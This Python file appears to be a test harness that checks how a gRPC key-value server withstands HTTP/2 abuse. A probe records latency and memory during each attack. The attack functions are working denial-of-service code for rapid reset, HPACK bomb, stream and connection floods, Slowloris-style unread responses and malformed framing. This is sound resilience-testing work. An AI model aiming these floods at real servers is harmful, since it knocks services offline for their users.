    settings = {wire.SETTINGS_ENABLE_PUSH: 0, wire.SETTINGS_INITIAL_WINDOW_SIZE: 0}
    conn = _open(endpoint, settings)
    result = AttackResult("initial window flip-flop")
    sids = _open_watches(conn, streams, deadline)
    result.details["streams open"] = sum(1 for s in sids if conn.stream(s).headers is not None and not conn.done(s))
    flips = [wire.settings_frame({wire.SETTINGS_INITIAL_WINDOW_SIZE: v}) for v in (1, 0)]
    if conn.goaway is None and not conn.closed and conn.send(b"".join(flips[i % 2] for i in range(frames)), deadline):
        result.frames_sent = frames
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
        # A PING's ACK may overtake SETTINGS ACKs (grpc-core's do): wait for those still owed.
        conn.pump(min(deadline, time.monotonic() + 5.0), lambda: conn.settings_acks > result.frames_sent)
    result.details["acks"] = conn.settings_acks - 1  # the first acknowledged our preface
    return _finish(result, conn, started)


def rapid_reset(endpoint: str, *, streams: int = 3000, timeout: float = 10.0) -> AttackResult:
    """HEADERS of a real call, then RST_STREAM(CANCEL) at once, over and over (CVE-2023-44487,
    HTTP/2 Rapid Reset)."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("rapid reset")
    block = header_block(wire.grpc_request_headers(RANGE))

    def pair(i: int) -> bytes:
        sid = conn.new_stream()
        return headers_frames(sid, block) + wire.rst_stream(sid, wire.CANCEL)

    opened = _flood(conn, pair, streams, deadline)
    result.frames_sent = 2 * opened
    result.details["streams reset"] = opened
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    return _finish(result, conn, started)


def varying_headers(
    endpoint: str,
    *,
    connections: int = 16,
    requests: int = 600,
    pad: int = 7000,
    batch: int = 50,
    timeout: float = 30.0,
) -> AttackResult:
    """Requests whose header blocks all differ (a random `x-pad` literal each), on several
    connections: whatever a server caches per distinct block must stay bounded (the memory a
    decoder may spend, RFC 7541 section 7.3)."""
    started = time.monotonic()
    deadline = started + timeout
    conns = [_open(endpoint) for _ in range(connections)]
    result = AttackResult("varying header blocks")
    message = wire.grpc_message(range_request(b"/attack/none"))
    sent = 0
    try:
        for _ in range(0, requests, batch):
            waiting: list[tuple[H2Conn, int]] = []
            for conn in conns:
                if conn.goaway is not None or conn.closed:
                    continue
                chunk = []
                for _ in range(batch):
                    sid = conn.new_stream()
                    extra = [(b"x-pad", os.urandom(pad // 2).hex().encode())]
                    chunk.append(headers_frames(sid, header_block(wire.grpc_request_headers(RANGE, extra=extra))))
                    chunk.append(data_frame(sid, message, end_stream=True))
                    waiting.append((conn, sid))
                conn.queue(b"".join(chunk))
                sent += batch
            if not waiting:
                break
            if not pump_many(conns, deadline, functools.partial(_all_done, waiting)):
                break
        merged = AttackResult(result.attack)
        ends: Counter[str] = Counter()
        rst: Counter[int] = Counter()
        http: Counter[str] = Counter()
        statuses: Counter[int] = Counter()
        for conn in conns:
            merged.record(conn)
            ends[merged.ended] += 1
            rst.update(merged.rst_codes)
            http.update(merged.http_statuses)
            statuses.update(merged.grpc_statuses)
            result.bytes_sent += conn.bytes_written
        result.record(conns[0])
        result.connections = dict(ends)
        result.rst_codes, result.http_statuses, result.grpc_statuses = dict(rst), dict(http), dict(statuses)
        result.frames_sent = 2 * sent
        result.details["requests"] = sent
        result.details["header bytes"] = sent * pad
        alive = [c for c in conns if c.goaway is None and not c.closed]
        result.still_serving = bool(alive) and alive[0].call(RANGE, range_request(b"/attack/none")) == GRPC_OK
    finally:
        for conn in conns:
            conn.close()
    result.seconds = time.monotonic() - started
    return result


def hpack_bomb(endpoint: str, *, entry: int = 4096, refs: int = 12_000, timeout: float = 10.0) -> AttackResult:
    """One dynamic-table entry of `entry` bytes (the whole default table), then a header block
    of `refs` one-byte references to it: a few KiB that decode to `refs` x `entry` bytes (the
    HPACK bomb, CVE-2016-6581)."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("hpack bomb")
    sid = conn.new_stream()
    name = b"x-bomb"
    value = b"b" * (entry - 32 - len(name))  # an entry's size is name + value + 32 (RFC 7541 section 4.1)
    index_62 = b"\xbe"  # indexed field 62: the newest dynamic entry (RFC 7541 section 6.1)
    block = header_block(wire.grpc_request_headers(RANGE)) + indexed_literal(name, value) + index_62 * refs
    frames = headers_frames(sid, block) + data_frame(sid, wire.grpc_message(range_request(b"/a")), end_stream=True)
    conn.send(frames, deadline)
    result.frames_sent = 2 + (len(block) - 1) // wire.DEFAULT_MAX_FRAME
    result.details["block bytes"] = len(block)
    result.details["decoded bytes"] = refs * (len(name) + len(value))
    conn.pump(deadline, lambda: conn.done(sid))
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    return _finish(result, conn, started)


def big_header_list(endpoint: str, *, size: int, timeout: float = 10.0) -> AttackResult:
    """One request whose header list is `size` bytes (one `x-big` field, HEADERS then
    CONTINUATION): over SETTINGS_MAX_HEADER_LIST_SIZE the request is refused (HTTP 431, RFC 6585
    and RFC 9113 section 10.5.1); over what a server will read at all, the connection closes."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult(f"header list of {size // 1024} KiB")
    sid = conn.new_stream()
    fields = wire.grpc_request_headers(RANGE)
    base = sum(len(n) + len(v) + 32 for n, v in fields) + len(b"x-big") + 32
    block = header_block([*fields, (b"x-big", b"h" * max(1, size - base))])
    frames = headers_frames(sid, block) + data_frame(sid, wire.grpc_message(range_request(b"/a")), end_stream=True)
    result.frames_sent = 2 + (len(block) - 1) // wire.DEFAULT_MAX_FRAME
    conn.send(frames, deadline)
    result.details["block bytes"] = len(block)
    result.details["advertised max header list"] = conn.peer_settings.get(wire.SETTINGS_MAX_HEADER_LIST_SIZE, "none")
    conn.pump(deadline, lambda: conn.done(sid))
    if conn.goaway is None and not conn.closed:
        result.still_serving = (
            conn.call(RANGE, range_request(b"/attack/none"), max(0.5, deadline - time.monotonic())) == 0
        )
    return _finish(result, conn, started)


def too_many_streams(endpoint: str, *, streams: int = 1001, timeout: float = 20.0) -> AttackResult:
    """`streams` Watch streams on one connection, all at once: those past the server's
    SETTINGS_MAX_CONCURRENT_STREAMS must be refused (RST_STREAM REFUSED_STREAM, RFC 9113
    section 5.1.2), the rest served."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult(f"{streams} concurrent streams")
    sids = _open_watches(conn, streams, deadline)
    result.frames_sent = 2 * len(sids)
    result.details["advertised max concurrent streams"] = conn.peer_settings.get(
        wire.SETTINGS_MAX_CONCURRENT_STREAMS, "none"
    )
    refused = [i + 1 for i, s in enumerate(sids) if conn.stream(s).reset == wire.REFUSED_STREAM]
    result.details["first refused"] = refused[0] if refused else 0
    result.details["streams served"] = sum(1 for s in sids if conn.stream(s).headers is not None)
    if conn.goaway is None and not conn.closed:
        result.still_serving = conn.ping_ok(max(0.5, deadline - time.monotonic()))
    return _finish(result, conn, started)


def partial_messages(
    endpoint: str,
    *,
    streams: int = 256,
    message: int = 1 << 20,
    sent: int = 1 << 19,
    timeout: float = 20.0,
) -> AttackResult:
    """Many unary Put streams, each holding an unfinished request: the length prefix says
    `message` bytes, `sent` of them come (Go's http2 bounds what a connection may make it
    buffer). Then the streams are reset and one call checks the connection."""
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint)
    result = AttackResult("partial messages")
    block = header_block(wire.grpc_request_headers(PUT))
    sids = []
    left: dict[int, int] = {}
    for _ in range(streams):
        sid = conn.new_stream()
        sids.append(sid)
        conn.queue(headers_frames(sid, block) + data_frame(sid, b"\0" + message.to_bytes(4, "big")))
        conn.sent_data(sid, wire.GRPC_PREFIX_LEN)
        left[sid] = sent - wire.GRPC_PREFIX_LEN
    chunk = b"\x55" * wire.DEFAULT_MAX_FRAME
    while left and not conn.closed and conn.goaway is None and time.monotonic() < deadline:
        progressed = False
        for sid in list(left):
            if conn.done(sid):
                del left[sid]
                continue
            n = min(left[sid], conn.can_send(sid), wire.DEFAULT_MAX_FRAME)
            if n <= 0:
                continue
            conn.queue(data_frame(sid, chunk[:n]))
            conn.sent_data(sid, n)
            result.frames_sent += 1
            progressed = True
            left[sid] -= n
            if not left[sid]:
                del left[sid]
            if conn.pending_out() >= 1 << 20:
                conn.flush(deadline)
        if not conn.flush(deadline):
            break
        if not progressed:  # every stream waits for window: wait (1 s at most) for a WINDOW_UPDATE
            moved = functools.partial(conn.window_moved, conn.send_window, dict(conn.stream_windows))
            if not conn.pump(min(deadline, time.monotonic() + 1.0), moved):
                result.details["held back by flow control"] = "yes"
                break
    conn.pump(min(deadline, time.monotonic() + 0.5), lambda: all(conn.done(s) for s in sids))
    result.details["streams fully sent"] = streams - len(left)
    result.details["bytes buffered at most"] = sum(sent - left.get(s, 0) for s in sids if not conn.done(s))
    result.record(conn)  # before the resets below: what the attack itself got
    answered = dict(result.grpc_statuses), dict(result.rst_codes)
    if conn.goaway is None and not conn.closed:
        conn.queue(b"".join(wire.rst_stream(s, wire.CANCEL) for s in sids if not conn.done(s)))
        result.still_serving = (
            conn.call(RANGE, range_request(b"/attack/none"), max(0.5, deadline - time.monotonic())) == 0
        )
    _finish(result, conn, started)
    result.grpc_statuses, result.rst_codes = answered
    return result


def unread_responses(
    endpoint: str,
    *,
    requests: int = 100,
    value_size: int = 1 << 20,
    values: int = 2,
    interval: float = 0.01,
    linger: float = 3.0,
    drain: bool = True,
    timeout: float = 20.0,
) -> AttackResult:
    """Range calls whose responses are big (`values` x `value_size` bytes), one every
    `interval` s (the attack's cadence), with huge flow-control windows and a socket that is
    not read: the server must stop taking work from a connection that does not drain
    (Go's http2 blocks the handler on the connection's write; Slowloris, CVE-2019-9517).
    After `linger` s the socket is read (`drain`: the client reads late, and the server goes
    on with the requests it left waiting) to see how the server ended the streams, or closed."""
    put_values(endpoint, b"/attack/big/", values, value_size)
    started = time.monotonic()
    deadline = started + timeout
    conn = _open(endpoint, rcvbuf=65536)  # the handshake is read and acknowledged; nothing after it
    conn.flush(deadline)
    conn.polite = False
    result = AttackResult("big responses read late" if drain else "big responses never read")
    request = range_request(b"/attack/big/", prefix_end(b"/attack/big/"))
    for _ in range(requests):
        sid = conn.new_stream()
        if not conn.send(unary_request(sid, RANGE, request), min(deadline, time.monotonic() + 1.0), read=False):
            break
        result.frames_sent += 2
        if time.monotonic() >= deadline:
            break
        time.sleep(interval)
    result.details["requests"] = result.frames_sent // 2
    hung_up = conn.wait_hangup(min(deadline, time.monotonic() + linger))
    result.details["reset while unread"] = "yes" if hung_up else "no"
    result.details["unread bytes"] = 0 if conn.closed else conn.unread_bytes()
    if drain:
        conn.polite = True
        conn.drain(min(deadline, time.monotonic() + 3.0))
        result.details["response bytes"] = sum(s.data_bytes for s in conn.streams.values())
    elif hung_up:
        conn.reset = True  # what it sent before stays unread: the end is all this client learns
    return _finish(result, conn, started)


def many_connections(
    endpoint: str,
    *,
    silent: int = 2000,
    preface: int = 2000,
    wait: float = 4.0,
    soon: float = 1.0,
    timeout: float = 30.0,
) -> AttackResult:
    """`silent` connections that send nothing, then `preface` that send only the preface and
    SETTINGS: each should be closed by the server's handshake deadline, its idle timeout or
    its connection limit (Slowloris; Go's http2 idle timeout, grpc's MaxConnectionIdle). Each
    group is watched for at most `wait` s; `details` counts those closed within `soon` s of
    connecting (refused at once) apart from the rest."""
    raise_open_files_limit()
    started = time.monotonic()
    deadline = started + timeout
    result = AttackResult("many connections")
    ends: Counter[str] = Counter()
    for group, count in (("silent", silent), ("preface", preface)):
        if not count:
            continue
        # A silent connection does not even acknowledge the server's SETTINGS.
        conns, failed = connect_many(
            endpoint, count, min(deadline, time.monotonic() + CONNECT_TIMEOUT), polite=group != "silent"
        )
        try:
            if failed:
                ends[f"{group}: connect failed"] += failed
            if group == "preface":
                for conn in conns:
                    conn.start(window=wire.DEFAULT_WINDOW)
            pump_many(conns, min(deadline, time.monotonic() + wait), functools.partial(_all_closed, conns))
            for conn in conns:
                ends[f"{group}: {conn.end_text()}"] += 1
                result.bytes_sent += conn.bytes_written
            result.details[f"{group} connected"] = len(conns)
            result.details[f"{group} closed within {soon:g}s"] = sum(
                1 for c in conns if c.closed and c.closed_at - c.opened_at <= soon
            )
        finally:
            for conn in conns:
                conn.close()
    result.connections = dict(ends)
    result.ended = ", ".join(f"{n} {how}" for how, n in sorted(ends.items()))
    result.seconds = time.monotonic() - started
    return result


MALFORMED_CASES = ("compressed", "oversized", "truncated", "garbage", "content-type", "method")


def malformed_requests(endpoint: str, *, max_message: int = 2 << 20, timeout: float = 2.0) -> AttackResult:
    """gRPC requests that break gRPC's framing, each on its own connection (gRPC over HTTP/2,
    Length-Prefixed-Message; RFC 9110 for 405 and 415): the compressed flag with no
    grpc-encoding, a length prefix over `max_message`, a message cut off by END_STREAM,
    bytes that are no protobuf, a wrong content-type, a GET. `details[case]` says what each
    got (within `timeout` s each); after each, one good call checks the connection still serves."""
    started = time.monotonic()
    result = AttackResult("malformed gRPC framing")
    good = range_request(b"/attack/none")
    serving = True
    for case in MALFORMED_CASES:
        deadline = time.monotonic() + timeout
        conn = _open(endpoint)
        sid = conn.new_stream()
        path_fields = wire.grpc_request_headers(RANGE)
        body = data_frame(sid, wire.grpc_message(good), end_stream=True)
        if case == "compressed":
            body = data_frame(sid, b"\x01" + len(good).to_bytes(4, "big") + good, end_stream=True)
        elif case == "oversized":
            body = data_frame(sid, b"\0" + (max_message + 1).to_bytes(4, "big") + b"x" * 1000, end_stream=True)
        elif case == "truncated":
            body = data_frame(sid, b"\0" + (100).to_bytes(4, "big") + b"x" * 10, end_stream=True)
        elif case == "garbage":
            body = data_frame(sid, wire.grpc_message(b"\xff" * 64), end_stream=True)
        elif case == "content-type":
            path_fields = wire.grpc_request_headers(RANGE, content_type=b"text/plain")
        elif case == "method":
            path_fields = wire.grpc_request_headers(RANGE, method=b"GET")
        conn.queue(headers_frames(sid, header_block(path_fields)) + body)
        result.frames_sent += 2
        conn.pump(deadline, functools.partial(conn.done, sid))
        seen = conn.stream(sid)
        if conn.goaway is not None or conn.closed:
            got = conn.end_text()
        elif seen.grpc_status is not None and seen.http_status in ("", "200"):
            got = f"grpc-status {seen.grpc_status}"
        elif seen.http_status:
            got = f"HTTP {seen.http_status}"
        elif seen.reset is not None:
            got = f"RST_STREAM {error_name(seen.reset)}"
        else:
            got = "no answer"
        result.details[case] = got
        if conn.goaway is None and not conn.closed:
            serving = serving and conn.call(RANGE, good, max(0.5, deadline - time.monotonic())) == GRPC_OK
        else:
            serving = False
        result.bytes_sent += conn.bytes_written
        conn.close()
    result.still_serving = serving
    result.ended = "; ".join(f"{case}: {result.details[case]}" for case in MALFORMED_CASES)
    result.seconds = time.monotonic() - started
    return result


def listen_backlog(port: int) -> int | None:
    """The accept queue's length of the socket listening on 127.0.0.1:`port` (`ss -lnt`'s
    Send-Q), None if `ss` is missing or shows no such socket."""
    import shutil
    import subprocess

    ss = shutil.which("ss")
    if ss is None:
        return None
    out = subprocess.run([ss, "-Hlnt", f"sport = :{port}"], capture_output=True, text=True, timeout=10, check=False)
    for line in out.stdout.splitlines():
        parts = line.split()
        if len(parts) >= 4 and parts[0] == "LISTEN" and parts[3].endswith(f":{port}"):
            return int(parts[2])
    return None


def open_files_limits(pid: int) -> tuple[int, int]:
    """A process's soft and hard limits on open files (from /proc/<pid>/limits)."""
    with open(f"/proc/{pid}/limits", encoding="ascii") as f:
        for line in f:
            if line.startswith("Max open files"):
                soft, hard = line.split()[3:5]
                return int(soft), int(hard)
    raise ValueError(f"no open-files limit in /proc/{pid}/limits")


# ------------------------------------------------------------ keys, over ordinary grpcio


def _kv(channel: grpc.Channel) -> rpc_pb2_grpc.KVStub:
    return rpc_pb2_grpc.KVStub(channel)  # type: ignore[no-untyped-call]


def put_keys(endpoint: str, prefix: bytes, n: int, tag: bytes = b"v") -> None:
    """`n` keys PREFIX000.. with values TAG-i, in one Txn (a write the attacks must not lose)."""
    puts = [
        rpc_pb2.RequestOp(request_put=rpc_pb2.PutRequest(key=prefix + b"%03d" % i, value=tag + b"-%d" % i))
        for i in range(n)
    ]
    with grpc.insecure_channel(endpoint) as channel:
        _kv(channel).Txn(rpc_pb2.TxnRequest(success=puts), timeout=10, wait_for_ready=True)


def get_keys(endpoint: str, prefix: bytes) -> dict[bytes, bytes]:
    """Every key under `prefix` with its value."""
    with grpc.insecure_channel(endpoint) as channel:
        resp = _kv(channel).Range(range_prefix(prefix), timeout=10, wait_for_ready=True)
    return {kv.key: kv.value for kv in resp.kvs}


def range_prefix(prefix: bytes) -> rpc_pb2.RangeRequest:
    return rpc_pb2.RangeRequest(key=prefix, range_end=prefix_end(prefix))


def put_values(endpoint: str, prefix: bytes, n: int, size: int) -> None:
    """`n` keys of `size`-byte values under `prefix` (for big responses)."""
    value = os.urandom(size)
    with grpc.insecure_channel(endpoint, options=[("grpc.max_send_message_length", 64 << 20)]) as channel:
        kv = _kv(channel)
        for i in range(n):
            kv.Put(rpc_pb2.PutRequest(key=prefix + b"%03d" % i, value=value), timeout=10, wait_for_ready=True)


# ------------------------------------------------------------ the probe and the server's memory


@dataclass(slots=True)
class ProbeSample:
    """One call of the probe."""

    phase: str
    op: str  # "put" or "range"
    seconds: float
    error: str = ""  # the grpc status code's name if the call failed


@dataclass(slots=True)
class ProbeResult:
    """Every call the probe made, by phase."""

    samples: list[ProbeSample] = field(default_factory=list)

    def of(self, phase: str | None = None) -> list[ProbeSample]:
        return [s for s in self.samples if phase is None or s.phase == phase]

    def failures(self, phase: str | None = None) -> list[ProbeSample]:
        return [s for s in self.of(phase) if s.error]

    def latencies(self, phase: str | None = None) -> list[float]:
        return sorted(s.seconds for s in self.of(phase) if not s.error)

    def p50(self, phase: str | None = None) -> float:
        lat = self.latencies(phase)
        return lat[len(lat) // 2] if lat else 0.0

    def max(self, phase: str | None = None) -> float:
        return max((s.seconds for s in self.of(phase)), default=0.0)

    def describe_failures(self) -> str:
        return ", ".join(f"{s.phase} {s.op} {s.error} after {s.seconds:.2f}s" for s in self.failures()) or "none"


class Probe:
    """A well-behaved grpcio client on its own thread: a Put and a Range every `interval` s,
    each with a `deadline`, recording each latency and failure under the current phase.

        with Probe(endpoint) as probe:
            probe.wait_rounds(2)          # 'before'
            probe.set_phase("during"); attack(); probe.set_phase("after"); probe.wait_rounds(2)
        probe.result
    """

    def __init__(
        self, endpoint: str, *, interval: float = 0.2, deadline: float = 2.0, key: bytes = b"/probe/key"
    ) -> None:
        self.endpoint = endpoint
        self.interval = interval
        self.deadline = deadline
        self.key = key
        self.result = ProbeResult()
        self._phase = "before"
        self._rounds: Counter[str] = Counter()
        self._cond = threading.Condition()
        self._stop = threading.Event()
        self._channel = grpc.insecure_channel(endpoint)
        self._kv = _kv(self._channel)
        self._thread = threading.Thread(target=self._run, name="probe", daemon=True)

    def start(self) -> Probe:
        # Connect and warm up outside the figures: the first call pays for the connection.
        self._kv.Range(rpc_pb2.RangeRequest(key=self.key), timeout=10, wait_for_ready=True)
        self._thread.start()
        return self

    def set_phase(self, phase: str) -> None:
        with self._cond:
            self._phase = phase

    def wait_rounds(self, n: int) -> int:
        """Wait until `n` rounds (a Put and a Range) ran in the current phase; the rounds done."""
        worst = n * (self.interval + 2 * self.deadline) + 5.0
        with self._cond:
            phase = self._phase
            self._cond.wait_for(lambda: self._rounds[phase] >= n or self._stop.is_set(), worst)
            return self._rounds[phase]

    def stop(self) -> ProbeResult:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(2 * self.deadline + 5.0)
        self._channel.close()
        return self.result

    def __enter__(self) -> Probe:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _call(self, phase: str, op: str, fn: Callable[[], object]) -> None:
        t0 = time.monotonic()
        error = ""
        try:
            fn()
        except grpc.RpcError as exc:
            code = exc.code() if hasattr(exc, "code") else None
            error = code.name if code is not None else type(exc).__name__
        self.result.samples.append(ProbeSample(phase, op, time.monotonic() - t0, error))

    def _run(self) -> None:
        kv, key, deadline = self._kv, self.key, self.deadline
        n = 0
        next_at = time.monotonic()
        while not self._stop.is_set():
            with self._cond:
                phase = self._phase
            n += 1
            put = rpc_pb2.PutRequest(key=key, value=b"probe-%d" % n)
            self._call(phase, "put", functools.partial(kv.Put, put, timeout=deadline))
            self._call(phase, "range", functools.partial(kv.Range, rpc_pb2.RangeRequest(key=key), timeout=deadline))
            with self._cond:
                self._rounds[phase] += 1
                self._cond.notify_all()
            next_at += self.interval
            wait = next_at - time.monotonic()
            if wait > 0:
                self._stop.wait(wait)
            else:
                next_at = time.monotonic()  # late: no burst to catch up


def rss_bytes(pid: int) -> int:
    """The resident set size of process `pid` (VmRSS in /proc/<pid>/status); 0 if it is gone."""
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


class RssSampler:
    """Samples a process's RSS every `interval` s on a thread; `peak` since the last `reset_peak()`."""

    def __init__(self, pid: int, *, interval: float = 0.01) -> None:
        self.pid = pid
        self.interval = interval
        self.current = rss_bytes(pid)
        self.peak = self.current
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="rss", daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            rss = rss_bytes(self.pid)
            self.current = rss
            self.peak = max(self.peak, rss)

    def reset_peak(self) -> int:
        self.current = self.peak = rss_bytes(self.pid)
        return self.current

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


@dataclass(slots=True)
class AttackRun:
    """One attack under the probe: what the attacker saw, what the probe saw, the server's RSS."""

    result: AttackResult
    probe: ProbeResult
    rss_before: int
    rss_peak: int  # during the attack and the probe's rounds after it
    rss_after: int

    @property
    def rss_growth(self) -> int:
        return self.rss_peak - self.rss_before


def run_attack(
    endpoint: str, pid: int, attack: Callable[[], AttackResult], *, before: int = 2, after: int = 2
) -> AttackRun:
    """The probe for `before` rounds, then during `attack()` (and at least one round that
    starts after the attack did: a short attack's effect shows there), then for `after`
    rounds; the server's (process `pid`) RSS sampled throughout."""
    with RssSampler(pid) as rss, Probe(endpoint) as probe:
        probe.wait_rounds(before)
        rss_before = rss.reset_peak()
        probe.set_phase("during")
        try:
            result = attack()
            probe.wait_rounds(1)
        finally:
            probe.set_phase("after")
        probe.wait_rounds(after)
        peak, rss_after = max(rss.peak, rss_bytes(pid)), rss_bytes(pid)
    return AttackRun(result, probe.result, rss_before, peak, rss_after)
